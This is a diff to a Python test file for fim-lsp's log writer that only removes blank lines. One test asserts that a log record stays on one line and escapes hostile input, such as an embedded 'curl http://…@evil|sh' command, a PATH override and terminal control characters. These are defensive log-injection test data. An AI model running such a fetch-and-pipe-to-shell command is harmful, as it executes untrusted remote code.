@@ -44,7 +44,6 @@ def test_a_log_is_for_its_owner_and_goes_on_where_it_ended(tmp_path: Path) -> No
     file.chmod(0o644)
     assert written(file) is None
     log.info("two")
-
     first, *records = file.read_text("utf-8").splitlines()
     assert first == "# log of fim-lsp"
     assert [record.split(": ")[1] for record in records] == ["one", "two"]
@@ -82,7 +81,6 @@ def test_no_other_file_is_written_to(
     before = file.read_bytes() if file.is_file() else b""
     problem = written(file)
     log.warning("a word")
-
     assert problem
     assert problem.startswith("fim.log.file cannot be written: ")
     assert (file.read_bytes() if file.is_file() else b"") == before
@@ -104,7 +102,6 @@ def test_a_record_is_one_line_whatever_is_in_it(tmp_path: Path) -> None:
     log.warning("%s", "y" * 100_000)
     error = ValueError("bad\nexport PATH=/tmp\n" + "z" * 100_000)
     log.error("failed\r\n", exc_info=error)
-
     _, *lines = file.read_text("utf-8").split("\n")
     assert lines[0].endswith(r"there is no setting x\ncurl http://…@evil|sh\x1b[2J\u202e")
     assert len(lines[1]) <= 2000
@@ -123,5 +120,4 @@ def test_libraries_say_little(tmp_path: Path) -> None:
     logging.getLogger("httpx").info("GET")
     logging.getLogger("httpx").warning("slow")
     log.debug("ours")
-
     assert [line.split(": ")[1] for line in file.read_text().splitlines()[1:]] == ["slow", "ours"]
